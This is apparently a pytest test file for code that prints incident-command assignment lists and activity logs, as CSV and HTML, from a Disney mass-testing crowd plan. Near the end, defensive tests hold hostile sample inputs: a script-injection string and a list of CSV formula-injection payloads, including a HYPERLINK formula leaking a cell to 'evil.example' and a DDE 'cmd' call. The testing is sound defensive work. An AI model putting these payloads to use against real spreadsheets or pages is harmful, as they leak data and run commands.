"""Incident-command paperwork: assignment lists (ICS 204) and activity logs (ICS 214) from a plan."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from command.ics import (
    ACTIVITY_COLUMNS,
    ASSIGNMENT_COLUMNS,
    WARNING_COLUMNS,
    ActivityEntry,
    IncidentHeader,
    RosterEntry,
    WarningEntry,
    activity_log_csv,
    activity_log_html,
    assignment_lists,
    team_of,
    to_csv,
    to_html,
    warnings_csv,
)
from scenarios import Plan, PlanMeta, load_scenario
from scenarios.plan import (
    AssignStaff,
    ChangeShow,
    ClearLane,
    CloseExit,
    CloseRoad,
    DirectRiders,
    DispatchBus,
    EscortBatch,
    MeterFlow,
    OneWay,
    RouteVisitors,
)

SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.fixture(scope="module")
def disney():
    """The built-in Disney mass-testing scenario (clock starts 2021-10-31 18:05 Shanghai time)."""
    return load_scenario("disney_mass_testing")


def header(*, exercise: bool = False, name: str = "迪士尼核酸筛查") -> IncidentHeader:
    """One operational period of the Disney incident, approved at 18:20."""
    return IncidentHeader(
        name=name, code="SH-2021-1031", jurisdiction="浦东新区 Pudong", exercise=exercise, period_number=1,
        period_start=datetime(2021, 10, 31, 18, 5, tzinfo=SHANGHAI),
        period_end=datetime(2021, 11, 1, 6, 5, tzinfo=SHANGHAI),
        commander="李指挥", approved_by="王**", approved_at=datetime(2021, 10, 31, 10, 20, tzinfo=UTC),
        plan_id=7, plan_version=3, plan_digest="2f914752d51b" + "0" * 52,
    )  # fmt: skip


def every_kind_plan(note: str = "") -> Plan:
    """One action of each of the eleven types, plus a second wave of Pudong testers."""
    actions = [
        AssignStaff(at_s=3000, pool="pudong", to="site_exit_plaza_2", count=4, role="swabber", wave=1),
        AssignStaff(at_s=2400, pool="pudong", to="site_exit_plaza_1", count=3, role="registrar", note=note),
        AssignStaff(at_s=3600, pool="xuhui", to="site_west_hub_1", count=5, until_s=18000),
        DispatchBus(at_s=8400, origin="bay_west_hub_1", to="hub_kangxin_highway", count=2, bus="沪B-12345"),
        RouteVisitors(at_s=0, origin="zone_fantasyland", to="site_exit_plaza_1", share=0.25),
        ClearLane(at_s=600, tunnel="yanan", direction="ab", lanes=2, until_s=4200),
        EscortBatch(at_s=900, tunnel="yanan", direction="ab", team="escort_1", max_riders=150),
        DirectRiders(at_s=700, origin="bank_puxi", to="hold_yanan_puxi", share=0.5),
        MeterFlow(at_s=1200, node="disney_station", rate_per_min=300, until_s=7800),
        OneWay(at_s=1200, u="zone_fantasyland", v="site_exit_plaza_1"),
        CloseRoad(at_s=1500, u="bay_west_hub_1", v="hub_kangxin_highway"),
        CloseExit(at_s=7800, node="disney_station"),
        ChangeShow(at_s=1800, segment=2, change="pause", minutes=10),
    ]
    return Plan.build(PlanMeta(scenario="disney_mass_testing"), actions)


def test_every_action_is_on_exactly_one_team_list(disney):
    """Every action of the plan is exactly one line, on the list of the team that carries it out."""
    plan = every_kind_plan()
    lists = assignment_lists(plan, disney)
    assert sum(len(a.lines) for a in lists) == len(plan.actions)
    assert len({a.team for a in lists}) == len(lists)
    by_team = {a.team: Counter((line.action, line.at) for line in a.lines) for a in lists}
    expected: dict[str, Counter] = {}
    for action in plan.actions:
        expected.setdefault(team_of(action), Counter())[(action.type, disney.clock.at(action.at_s))] += 1
    assert by_team == expected
    for a in lists:
        assert [line.at for line in a.lines] == sorted(line.at for line in a.lines)


def test_teams_follow_the_documented_rules(disney):
    """Staff go by pool, escorts by team, buses to `buses`, traffic to police, crowd control to security."""
    teams = {a.type: set() for a in every_kind_plan().actions}
    for action in every_kind_plan().actions:
        teams[action.type].add(team_of(action))
    assert teams == {
        "assign_staff": {"pudong", "xuhui"}, "dispatch_bus": {"buses"}, "escort_batch": {"escort_1"},
        "clear_lane": {"traffic_police"}, "close_road": {"traffic_police"}, "one_way": {"security"},
        "meter_flow": {"security"}, "close_exit": {"security"}, "route_visitors": {"public_information"},
        "direct_riders": {"public_information"}, "change_show": {"operations"},
    }  # fmt: skip


def test_csv_parses_back_with_local_times(disney):
    """The CSV has the documented columns, one row per action, and local Shanghai times (at_s=2400 is 18:45)."""
    plan = every_kind_plan()
    text = to_csv(assignment_lists(plan, disney), header())
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert tuple(reader.fieldnames or ()) == ASSIGNMENT_COLUMNS
    assert len(rows) == len(plan.actions)
    first = next(r for r in rows if r["team"] == "pudong")
    at = datetime.fromisoformat(first["time"])
    assert (at.hour, at.minute, at.utcoffset()) == (18, 45, datetime(2021, 1, 1, tzinfo=SHANGHAI).utcoffset())
    assert first["time"] == "2021-10-31T18:45:00+08:00"
    assert (first["incident_code"], first["period"], first["count"]) == ("SH-2021-1031", "1", "3")
    xuhui = next(r for r in rows if r["team"] == "xuhui")
    assert xuhui["until"] == "2021-10-31T23:05:00+08:00"
    bus = next(r for r in rows if r["team"] == "buses")
    assert "沪B-12345" in bus["detail"] and bus["count"] == "2"


def test_places_show_graph_names_and_ids(disney):
    """A node is printed by its graph name with its id after it; a node the graph lacks keeps its id."""
    lists = {a.team: a for a in assignment_lists(every_kind_plan(), disney)}
    assert lists["pudong"].lines[0].where == "Exit plaza swab site 1 (site_exit_plaza_1)"
    assert "(hold_yanan_puxi)" not in lists["public_information"].lines[1].where
    assert lists["public_information"].lines[1].where.endswith("→ hold_yanan_puxi")


def test_places_fall_back_to_ids_without_a_graph(disney):
    """If the scenario's graph cannot be loaded, places are printed as node ids."""
    lost = disney.model_copy(update={"graph": "/nonexistent/graph.geojson"})
    lists = {a.team: a for a in assignment_lists(every_kind_plan(), lost)}
    assert lists["pudong"].lines[0].where == "site_exit_plaza_1"


def test_tunnel_lines_name_the_tunnel_and_portals_in_direction_order():
    """A cleared lane `ba` runs from the tunnel's second portal to its first, by name."""
    typhoon = load_scenario("huangpu_typhoon")
    tunnel = next(iter(typhoon.tunnels))
    spec = typhoon.tunnels[tunnel]
    plan = Plan.build(PlanMeta(scenario=typhoon.name),
                      [ClearLane(at_s=0, tunnel=tunnel, direction="ba", until_s=1800)])  # fmt: skip
    (only,) = assignment_lists(plan, typhoon)
    where = only.lines[0].where
    assert only.team == "traffic_police"
    assert where.startswith(spec.name)
    assert where.index(f"({spec.portals[1]})") < where.index(f"({spec.portals[0]})")


def test_html_escapes_every_string(disney):
    """Notes, roster values and the incident name are escaped: a `<script>` note prints as text."""
    evil = '<script>alert("x")</script>'
    roster = [RosterEntry(team="pudong", name=evil, phone="<b>1</b>", role="leader")]
    lists = assignment_lists(every_kind_plan(note=evil), disney, roster=roster)
    for page in (to_html(lists, header(name=evil), instructions={"pudong": evil}),
                 activity_log_html([ActivityEntry(at=header().approved_at, actor=evil, kind="note", text=evil)],
                                   header(name=evil))):  # fmt: skip
        assert "<script" not in page.lower()
        assert "<b>1</b>" not in page
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page


def test_html_is_self_contained_with_one_team_per_page(disney):
    """The page has one sheet per team, page breaks between them, and no scripts or external assets."""
    lists = assignment_lists(every_kind_plan(), disney)
    page = to_html(lists, header())
    assert page.count('<section class="sheet">') == len(lists)
    assert "break-before: page" in page and "@media print" in page
    for banned in ("<script", "src=", "href=", "@import", "url("):
        assert banned not in page
    assert "sha256 2f914752d51b" in page and "#7 v3" in page
    assert "王**" in page and "2021-10-31 18:20" in page  # approval at 10:20 UTC printed in Shanghai time


@pytest.mark.parametrize("exercise", [True, False])
def test_exercise_banner_iff_exercise(disney, exercise):
    """Every team's sheet carries the EXERCISE / 演练 banner in an exercise, and no sheet does otherwise."""
    lists = assignment_lists(every_kind_plan(), disney)
    page = to_html(lists, header(exercise=exercise))
    log = activity_log_html([], header(exercise=exercise))
    assert page.count('<div class="exercise">') == (len(lists) if exercise else 0)
    assert log.count('<div class="exercise">') == (1 if exercise else 0)
    for text in (page, log):
        assert ("EXERCISE" in text) is exercise
        assert ("演练" in text) is exercise


def test_masked_roster_values_are_printed_as_given(disney):
    """Masked names and phones appear unchanged; the first entry whose role says leader leads the team."""
    roster = [
        RosterEntry(team="pudong", name="赵*", phone="139****0001", role="swabber"),
        RosterEntry(team="pudong", name="张**", phone="138****5678", role="Team leader"),
        RosterEntry(team="pudong", name="钱*", phone="137****0002", role="deputy leader"),
        RosterEntry(team="nobody", name="孙*", phone="136****0003", role="leader"),
    ]
    lists = {a.team: a for a in assignment_lists(every_kind_plan(), disney, roster=roster)}
    pudong = lists["pudong"]
    assert pudong.leader == roster[1]
    assert pudong.members == (roster[0], roster[2])
    assert "nobody" not in lists
    rows = list(csv.DictReader(io.StringIO(to_csv(list(lists.values()), header()), newline="")))
    assert {(r["leader_name"], r["leader_phone"]) for r in rows if r["team"] == "pudong"} == {("张**", "138****5678")}
    page = to_html(list(lists.values()), header())
    for entry in roster[:3]:
        assert entry.name in page and entry.phone in page


def test_leader_defaults_to_the_first_entry(disney):
    """Without a leader role, the team's first roster entry leads."""
    roster = [RosterEntry(team="xuhui", name=f"周{i}", phone=f"1{i}", role="swabber") for i in range(3)]
    lists = {a.team: a for a in assignment_lists(every_kind_plan(), disney, roster=roster)}
    assert lists["xuhui"].leader == roster[0]
    assert lists["buses"].leader is None and lists["buses"].members == ()


def test_csv_cells_cannot_start_a_formula(disney):
    """Free text that would start a spreadsheet formula gets a leading quote; other text is unchanged."""
    roster = [RosterEntry(team="pudong", name='=HYPERLINK("http://x")', phone="+86 138****5678", role="leader")]
    rows = list(csv.DictReader(io.StringIO(
        to_csv(assignment_lists(every_kind_plan(), disney, roster=roster), header()), newline="")))  # fmt: skip
    pudong = next(r for r in rows if r["team"] == "pudong")
    assert pudong["leader_name"] == '\'=HYPERLINK("http://x")'
    assert pudong["leader_phone"] == "'+86 138****5678"


@settings(max_examples=60, deadline=None)
@given(note=st.text(max_size=40))
def test_any_note_survives_the_csv(note):
    """Whatever a note holds (commas, quotes, newlines, Chinese), the CSV gives it back in the detail column."""
    scenario = load_scenario("disney_mass_testing")
    plan = Plan.build(PlanMeta(scenario=scenario.name),
                      [AssignStaff(at_s=60, pool="pudong", to="site_exit_plaza_1", count=1, note=note)])  # fmt: skip
    (row,) = csv.DictReader(io.StringIO(to_csv(assignment_lists(plan, scenario), header()), newline=""))
    assert row["detail"] == "; ".join(p for p in ("wave 0", note) if p)


def test_activity_log_keeps_order_and_converts_to_local_time():
    """The log prints entries in the order given, in the period's time zone, with the documented columns."""
    entries = [
        ActivityEntry(at=datetime(2021, 10, 31, 10, 20, tzinfo=UTC), actor="王**", kind="approval", text="批准方案 v3"),
        ActivityEntry(at=datetime(2021, 10, 31, 18, 10, tzinfo=SHANGHAI), actor="李指挥", kind="note", text="a, b"),
    ]
    rows = list(csv.DictReader(io.StringIO(activity_log_csv(entries, header()), newline="")))
    assert tuple(rows[0]) == ACTIVITY_COLUMNS
    assert [(r["time"], r["actor"], r["activity"]) for r in rows] == [
        ("2021-10-31T18:20:00+08:00", "王**", "批准方案 v3"),
        ("2021-10-31T18:10:00+08:00", "李指挥", "a, b"),
    ]
    page = activity_log_html(entries, header())
    assert page.index("2021-10-31 18:20:00") < page.index("2021-10-31 18:10:00")
    assert "ICS 214" in page


def test_empty_plan_prints_one_page_without_work(disney):
    """A plan with no actions has no assignment lists, an empty CSV body and a single explanatory page."""
    lists = assignment_lists(Plan(meta=PlanMeta(scenario=disney.name)), disney)
    assert lists == []
    assert to_csv(lists, header()).splitlines() == [",".join(ASSIGNMENT_COLUMNS)]
    page = to_html(lists, header())
    assert page.count('<section class="sheet">') == 1 and "The plan has no work assignments" in page


@pytest.mark.slow
def test_optimised_disney_plan_prints(disney):
    """The optimiser's Disney plan gives one line per action, a CSV row per line and one sheet per team."""
    from command.kinds import optimise
    from optimizer.result import SolveParams

    plan = optimise(disney, SolveParams(time_limit_s=5)).plan
    assert plan is not None and plan.actions
    lists = assignment_lists(plan, disney)
    assert sum(len(a.lines) for a in lists) == len(plan.actions)
    assert {a.team for a in lists} >= set(disney.resources.testers)
    rows = list(csv.DictReader(io.StringIO(to_csv(lists, header()), newline="")))
    assert len(rows) == len(plan.actions)
    assert all(r["time"].endswith("+08:00") for r in rows)
    page = to_html(lists, header(exercise=True))
    assert page.count('<section class="sheet">') == len(lists) == page.count('<div class="exercise">')


def test_the_warnings_the_commander_saw_travel_with_the_paperwork(disney):
    """Each consequence warning the approved plan carried is on every team's page with who acknowledged it and,
    one row each, in its own CSV (a message starting like a formula is kept from being read as one); a plan with
    none says so."""
    warned = (
        WarningEntry(number=1, kind="worse", kpi="mean_wait_min", default=20.5, plan=31.25,
                     message="Mean wait to be swabbed (min): 31.25 under this plan against 20.5",
                     acknowledged_by="李指挥"),
        WarningEntry(number=2, kind="breach", kpi=None, default=None, plan=None,
                     message="=a visitor has waited more than 60 min at 19:30"),
    )  # fmt: skip
    lists = assignment_lists(every_kind_plan(), disney)
    page = to_html(lists, header(), warnings=warned)
    assert page.count("Warnings shown before approval (2)") == len(lists) > 1
    assert page.count("Mean wait to be swabbed (min): 31.25 under this plan against 20.5") == len(lists)
    assert page.count("较默认方案更差 Worse than the default plan") == len(lists)
    acked = "<td>Mean wait to be swabbed (min): 31.25 under this plan against 20.5</td><td>李指挥</td>"
    assert page.count(acked) == page.count("未确认 not acknowledged") == len(lists)
    rows = list(csv.reader(io.StringIO(warnings_csv(warned, header()))))
    assert tuple(rows[0]) == WARNING_COLUMNS
    assert rows[1] == ["SH-2021-1031", "迪士尼核酸筛查", "7", "3", "1", "worse", "mean_wait_min", "20.5", "31.25",
                       "Mean wait to be swabbed (min): 31.25 under this plan against 20.5", "", "李指挥"]  # fmt: skip
    assert rows[2][4:] == ["2", "breach", "", "", "", "'=a visitor has waited more than 60 min at 19:30", "", ""]
    none = to_html(lists, header())
    assert none.count("Warnings shown before approval (0)") == len(lists)
    assert "无 None: the plan was no worse than the default plan" in none
    assert list(csv.reader(io.StringIO(warnings_csv((), header())))) == [list(WARNING_COLUMNS)]


#: What a spreadsheet would evaluate: a cell opening with one of these, at once or after blanks (the oracle is
#: written apart from `command.ics`, from OWASP's CSV-injection list plus the full-width forms and line breaks).
_EVALUATED = set("=+-@\uff1d\uff0b\uff0d\uff20")


def _evaluated(cell: str) -> bool:
    return cell[:1] in {"\t", "\r", "\n"} or cell.lstrip(" \t\r\n\v\f\u00a0\u3000")[:1] in _EVALUATED


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
           "\r=1", " =1", "\u3000\uff1d1", "\uff20x", "\n+1", "\t", "-"]  # fmt: skip


@settings(max_examples=80, deadline=None)
@given(text=st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30)))
def test_no_csv_cell_can_start_a_formula(text):
    """Whatever text an incident name, a person's name or phone, a note, an actor or a log entry holds, no cell of
    either CSV would be evaluated by a spreadsheet, and each comes back whole after its one leading quote (issue 21,
    CSV formula injection)."""
    scenario = load_scenario("disney_mass_testing")
    plan = Plan.build(PlanMeta(scenario=scenario.name),
                      [AssignStaff(at_s=60, pool="pudong", to="site_exit_plaza_1", count=1, note=text)])  # fmt: skip
    roster = [RosterEntry(team="pudong", name=text, phone=text, role="leader")]
    head = header(name=text)
    lists = to_csv(assignment_lists(plan, scenario, roster=roster), head)
    log = activity_log_csv([ActivityEntry(at=datetime(2021, 10, 31, 10, 20, tzinfo=UTC), actor=text, kind=text,
                                          text=text)], head)  # fmt: skip
    for body in (lists, log):
        for row in csv.reader(io.StringIO(body, newline="")):
            assert not any(_evaluated(cell) for cell in row), row
    (row,) = csv.DictReader(io.StringIO(lists, newline=""))
    back = {k: row[k][1:] if _evaluated(v) else row[k] for k, v in
            (("incident_name", text), ("leader_name", text), ("leader_phone", text))}  # fmt: skip
    assert back == {"incident_name": text, "leader_name": text, "leader_phone": text}
    (entry,) = csv.DictReader(io.StringIO(log, newline=""))
    assert entry["activity"] == ("'" + text if _evaluated(text) else text)
